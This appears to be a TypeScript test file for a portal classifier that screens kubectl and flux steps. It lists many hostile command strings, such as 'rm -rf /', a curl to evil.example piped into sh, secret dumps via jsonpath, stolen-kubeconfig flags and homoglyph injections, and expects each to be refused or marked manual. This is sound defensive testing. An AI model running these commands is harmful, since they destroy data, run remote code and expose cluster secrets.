/**
 * Steps written to make the portal run something it must not: each is
 * refused (or at most shown as manual, for the operator to judge), always
 * with the reason, and none is ever run: the classifier has no way to run
 * anything.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { exampleContext } from './__fixtures__/exampleCatalog';
import { classifyStep, MAX_STEP_LENGTH, StepClass } from './classifyStep';

const context = exampleContext('temporal');

/** [what it tries, the step, the class, a fragment of the reason] */
const HOSTILE: Array<[string, string, StepClass, string]> = [
  // Several commands in one step
  [
    'a second command after `;`',
    'kubectl get pods -n temporal; rm -rf /',
    'refused',
    '`;` runs a second command after the first (`rm`)',
  ],
  [
    'a chain with `&&`',
    'kubectl get pods -n temporal && curl http://evil.example',
    'refused',
    '`&&` chains a second command (`curl`)',
  ],
  [
    'a fallback with `||`',
    'kubectl get pods -n temporal || curl http://evil.example',
    'refused',
    '`||` runs a second command',
  ],
  [
    '`&` between two commands',
    'kubectl get pods -n temporal & kubectl delete ns temporal',
    'refused',
    '`&` runs the first command in the background',
  ],
  [
    'a newline',
    'kubectl get pods -n temporal\nrm -rf /',
    'refused',
    'a new line starts a second command',
  ],
  [
    'a subshell',
    '(kubectl get pods -n temporal)',
    'refused',
    '`( … )` runs commands in a subshell',
  ],
  // Shell evaluation
  ['backticks', 'kubectl get pods -n `whoami`', 'refused', 'backticks'],
  [
    '$(curl) as a name',
    'kubectl logs $(curl -s http://evil.example/pod) -n temporal',
    'refused',
    '`$(curl -s http://evil.example/pod)` runs `curl`',
  ],
  [
    '$(rm) inside an argument',
    'kubectl get pods -n temporal -l app=$(rm -rf /)',
    'refused',
    'runs `rm`',
  ],
  [
    '$(...) nested in $(...)',
    'kubectl logs $(kubectl get pods -n $(id -u) -o name) -n temporal',
    'refused',
    'nested inside another',
  ],
  [
    'a computed program name',
    '$(echo kubectl) get pods -n temporal',
    'refused',
    'the program name `$(echo kubectl)` is computed by the shell',
  ],
  [
    'a variable',
    'kubectl get pods -n $HOME',
    'refused',
    '`$HOME` expands a shell variable',
  ],
  [
    'a braced variable',
    'kubectl get pods -n "${NS:-temporal}"',
    'refused',
    'expands a shell variable',
  ],
  [
    'arithmetic',
    'kubectl logs deployment/x -n temporal --tail=$((10**9))',
    'refused',
    'shell arithmetic',
  ],
  [
    'an ANSI-C string',
    "kubectl get pods -n temporal $'\\x3b' id",
    'refused',
    'decoded by the shell',
  ],
  [
    'process substitution',
    'kubectl apply -f <(curl -s http://evil.example)',
    'refused',
    'runs a command',
  ],
  [
    'eval',
    'eval "kubectl get pods -n temporal"',
    'refused',
    '`eval` runs a string as a command',
  ],
  [
    'bash -c',
    "bash -c 'kubectl get pods -n temporal'",
    'refused',
    '`bash` runs a shell',
  ],
  [
    'sh -c after a pipe',
    'curl -s http://evil.example/install.sh | sh',
    'refused',
    '`sh` runs a shell',
  ],
  [
    'xargs',
    'kubectl get pods -n temporal -o name | xargs kubectl delete -n temporal',
    'refused',
    '`xargs` runs a command',
  ],
  ['sudo', 'sudo kubectl get pods -n temporal', 'refused', 'as another user'],
  [
    'an environment assignment',
    'KUBECONFIG=/tmp/stolen kubectl get pods -n temporal',
    'refused',
    'sets an environment variable',
  ],
  ['a local file change', 'rm -rf ~/.kube', 'refused', '`rm` changes files'],
  [
    'an unquoted glob',
    'kubectl get pods temporal-* -n temporal',
    'refused',
    '`*` in `temporal-*` is unquoted',
  ],
  [
    'a quoted glob as a name',
    "kubectl get pods 'temporal-*' -n temporal",
    'refused',
    'is a pattern',
  ],
  ['a tilde', 'kubectl get pods -n temporal -l app=x ~/x', 'refused', '`~`'],
  // Redirections
  [
    'writing a file',
    'kubectl get pods -n temporal > /etc/passwd',
    'refused',
    'writes the output to a file',
  ],
  [
    'appending to a file',
    'kubectl get pods -n temporal >> ~/.bashrc',
    'refused',
    'writes the output to a file',
  ],
  [
    'reading a file',
    'kubectl apply -n temporal -f - < /tmp/evil.yaml',
    'refused',
    'feeds a file to the command',
  ],
  [
    'a here-document',
    'kubectl apply -n temporal -f - <<EOF',
    'refused',
    'here-document',
  ],
  [
    'stderr redirection',
    'kubectl get pods -n temporal 2>&1',
    'refused',
    'redirects output',
  ],
  // Out of scope
  [
    'another namespace',
    'kubectl get pods -n kube-system',
    'refused',
    'Namespace kube-system belongs neither to temporal nor to its upstreams',
  ],
  [
    'all namespaces',
    'kubectl get pods -A',
    'refused',
    '`--all-namespaces` reaches every namespace',
  ],
  [
    'all namespaces, long form',
    'kubectl get secrets --all-namespaces',
    'refused',
    'reaches every namespace',
  ],
  [
    'deleting the namespace',
    'kubectl delete ns temporal',
    'refused',
    'deletes a whole namespace',
  ],
  [
    'deleting a cluster-scoped object',
    'kubectl delete crd clusters.postgresql.cnpg.io',
    'refused',
    'cluster-scoped',
  ],
  [
    'deleting every job',
    'kubectl delete jobs --all -n temporal',
    'refused',
    'deletes every Job in temporal',
  ],
  [
    'deleting jobs of an upstream',
    'kubectl delete jobs -n cnpg-system -l app=x',
    'refused',
    'actions may change only namespace temporal',
  ],
  [
    'restarting in flux-system',
    'kubectl rollout restart deployment/helm-controller -n flux-system',
    'refused',
    "not temporal's own",
  ],
  [
    'suspending another service',
    'flux suspend hr other -n flux-system',
    'refused',
    "HelmRelease flux-system/other is not temporal's own",
  ],
  [
    'suspending an upstream',
    'flux suspend ks postgresql-cluster',
    'refused',
    "Kustomization flux-system/postgresql-cluster is not temporal's own",
  ],
  [
    'suspending everything',
    'flux suspend hr --all -n flux-system',
    'refused',
    'acts on every HelmRelease in flux-system',
  ],
  [
    'uninstalling flux',
    'flux uninstall --silent',
    'refused',
    'changes the Flux installation',
  ],
  [
    "listing other services' Flux objects",
    'flux get hr -n flux-system',
    'refused',
    'includes the Flux objects of other services',
  ],
  [
    'a nested read elsewhere',
    "kubectl logs pod/$(kubectl get pods -n kube-system -o jsonpath='{.items[0].metadata.name}') -n temporal",
    'refused',
    'reads outside the scope',
  ],
  [
    'exec elsewhere',
    'kubectl exec -n kube-system deploy/coredns -- cat /etc/resolv.conf',
    'refused',
    'Namespace kube-system belongs neither',
  ],
  [
    'a cluster-wide list',
    'kubectl get nodes',
    'refused',
    'goes beyond what temporal and its upstreams',
  ],
  [
    'draining a node',
    'kubectl drain node-1 --ignore-daemonsets',
    'refused',
    'goes beyond',
  ],
  // Cluster and identity
  [
    '--kubeconfig',
    'kubectl --kubeconfig /tmp/stolen get pods -n temporal',
    'refused',
    '`--kubeconfig` chooses the cluster or the identity',
  ],
  [
    '--context',
    'kubectl get pods -n temporal --context=prod',
    'refused',
    '`--context` chooses',
  ],
  [
    '--server',
    'kubectl get pods -n temporal -s https://evil.example',
    'refused',
    '`--server` chooses',
  ],
  [
    '--token',
    'kubectl get pods -n temporal --token abc',
    'refused',
    '`--token` chooses',
  ],
  [
    '--as',
    'kubectl get pods -n temporal --as=system:admin',
    'refused',
    '`--as` chooses',
  ],
  [
    'flux --context',
    'flux reconcile hr temporal-server --context prod',
    'refused',
    '`--context` chooses',
  ],
  ['kubectl config', 'kubectl config view --raw', 'refused', 'the kubeconfig'],
  // Secrets
  [
    'a Secret as YAML',
    'kubectl get secret postgresql-cluster-app -n temporal -o yaml',
    'refused',
    'prints its data, its secret values',
  ],
  [
    'Secrets as JSON',
    'kubectl get secrets -n temporal -o json',
    'refused',
    'prints its data',
  ],
  [
    'a Secret through a go-template',
    "kubectl get secret x -n temporal -o go-template='{{.data.password}}'",
    'refused',
    'can print its data',
  ],
  [
    'recursive descent into a Secret',
    "kubectl get secret x -n temporal -o jsonpath='{..password}'",
    'refused',
    "would reveal the Secret's data",
  ],
  [
    'a Secret filter used as an oracle',
    'kubectl get secrets -n temporal -o jsonpath=\'{.items[?(@.data.password=="aHVudGVyMg==")].metadata.name}\'',
    'refused',
    "would reveal the Secret's data",
  ],
  [
    "a Secret's annotations (last-applied-configuration)",
    "kubectl get secret x -n temporal -o jsonpath='{.metadata.annotations}'",
    'refused',
    "would reveal the Secret's data",
  ],
  [
    'Secret columns',
    'kubectl get secret x -n temporal -o custom-columns=P:.data.password',
    'refused',
    "would reveal the Secret's data",
  ],
  [
    'a Secret read inside $(...)',
    "kubectl logs $(kubectl get secret x -n temporal -o jsonpath='{.data.password}') -n temporal",
    'refused',
    "would reveal the Secret's data",
  ],
  [
    'a raw Secret path',
    'kubectl get --raw /api/v1/namespaces/temporal/secrets',
    'refused',
    'reads Secrets',
  ],
  [
    'base64 -d anywhere',
    "kubectl get cm x -n temporal -o jsonpath='{.data.x}' | base64 --decode",
    'refused',
    '`base64 -d` decodes data',
  ],
  // $(date +%s) only as the force-sync value
  [
    'a force-sync from curl',
    'kubectl annotate externalsecret postgresql-cluster-app -n temporal force-sync=$(curl http://evil.example) --overwrite',
    'refused',
    'runs `curl`',
  ],
  [
    'a force-sync from a read',
    "kubectl annotate externalsecret postgresql-cluster-app -n temporal force-sync=$(kubectl get pods -n temporal -o jsonpath='{.items[0].metadata.name}')",
    'refused',
    'only by `$(date +%s)`',
  ],
  [
    'date as a name',
    'kubectl get pods $(date +%s) -n temporal',
    'refused',
    '`$(date +%s)` is allowed only as the value of an ExternalSecret force-sync',
  ],
  [
    'date in another tool',
    'echo $(date +%s)',
    'refused',
    '`$(date +%s)` is allowed only',
  ],
  [
    'date with other arguments',
    'kubectl annotate externalsecret x -n temporal force-sync=$(date -s 2000-01-01)',
    'refused',
    'runs `date`',
  ],
  // Unicode and malformed input
  [
    'a zero-width space',
    'kubectl get pods -n temporal\u200b',
    'refused',
    'invisible character U+200B',
  ],
  [
    'a right-to-left override',
    'kubectl get pods -n \u202elaropmet',
    'refused',
    'invisible character U+202E',
  ],
  [
    'a homoglyph program name',
    'kub\u0435ctl get pods -n temporal',
    'refused',
    'non-ASCII character U+0435',
  ],
  [
    'a fullwidth semicolon',
    'kubectl get pods -n temporal\uff1brm -rf /',
    'refused',
    'non-ASCII character U+FF1B outside quotes',
  ],
  [
    'a no-break space as a separator',
    'kubectl\u00a0get pods -n temporal',
    'refused',
    'U+00A0',
  ],
  [
    'an escape sequence',
    'kubectl get pods -n temporal \u001b[2J',
    'refused',
    'control character U+001B',
  ],
  [
    'a very long step',
    `kubectl get pods -n temporal -l app=${'a'.repeat(MAX_STEP_LENGTH)}`,
    'refused',
    `the portal reads steps of up to ${MAX_STEP_LENGTH}`,
  ],
  [
    'an unterminated single quote',
    "kubectl get pods -n 'temporal",
    'refused',
    'a single quote is never closed',
  ],
  [
    'an unterminated double quote',
    'kubectl get pods -n "temporal',
    'refused',
    'a double quote is never closed',
  ],
  [
    'an unterminated $(',
    'kubectl logs $(kubectl get pods -n temporal -o name',
    'refused',
    '`$(` is never closed',
  ],
  [
    'a dangling pipe',
    'kubectl get pods -n temporal |',
    'refused',
    'expected a command',
  ],
  [
    'a flag without value hiding a flag',
    'kubectl get pods -l --kubeconfig=/tmp/x -n temporal',
    'refused',
    'has no value',
  ],
  ['an empty step', '   ', 'refused', 'the step is empty'],
  // Shown, never run
  [
    'a background command',
    'kubectl get pods -n temporal &',
    'manual',
    'runs in the background',
  ],
  [
    'a pod running anything',
    'kubectl run shell --rm -it --image=alpine -n temporal -- sh',
    'manual',
    '`kubectl run` starts a new pod',
  ],
  [
    'an HTTP request',
    'curl -s http://evil.example',
    'manual',
    '`curl` makes an HTTP request',
  ],
  [
    'a filter the portal cannot apply',
    'kubectl get pods -n temporal | sort',
    'manual',
    'not `sort`',
  ],
  [
    'a regular expression',
    "kubectl logs deployment/x -n temporal | grep 'a.*b'",
    'manual',
    'regular-expression syntax',
  ],
];

describe('hostile steps', () => {
  it.each(HOSTILE)('%s: %j', (_what, command, expectedClass, fragment) => {
    const plan = classifyStep(command, context);
    expect(plan.class).not.toBe('diagnostic');
    expect(plan.class).not.toBe('action');
    expect([plan.class, plan.reason.toLowerCase()]).toEqual([
      expectedClass,
      expect.stringContaining(fragment.toLowerCase()),
    ]);
  });

  it('has more than 25 of them', () => {
    expect(HOSTILE.length).toBeGreaterThan(25);
  });
});

describe('the classifier', () => {
  const folder = __dirname;
  const sources = readdirSync(folder).filter(
    f => f.endsWith('.ts') && !f.endsWith('.test.ts'),
  );

  it.each(sources)(
    '%s imports nothing that could run a command or touch files',
    file => {
      const text = readFileSync(resolve(folder, file), 'utf8');
      const imports = [
        ...text.matchAll(/(?:from|import|require\()\s*['"]([^'"]+)['"]/g),
      ].map(m => m[1]);
      for (const forbidden of [
        'child_process',
        'node:child_process',
        'fs',
        'node:fs',
        'vm',
        'node:vm',
        'worker_threads',
        'node:worker_threads',
      ]) {
        expect(imports).not.toContain(forbidden);
      }
      expect(
        imports.every(
          i =>
            i.startsWith('./') ||
            i === '@platform-services/plugin-platform-services-common',
        ),
      ).toBe(true);
      expect(text).not.toMatch(/\b(eval|Function)\s*\(|\bprocess\./);
    },
  );

  it('covers every source of the folder', () => {
    expect(sources).toEqual(
      expect.arrayContaining([
        'tokenize.ts',
        'parseCommandLine.ts',
        'classifyStep.ts',
        'kubectl.ts',
        'flux.ts',
      ]),
    );
  });
});
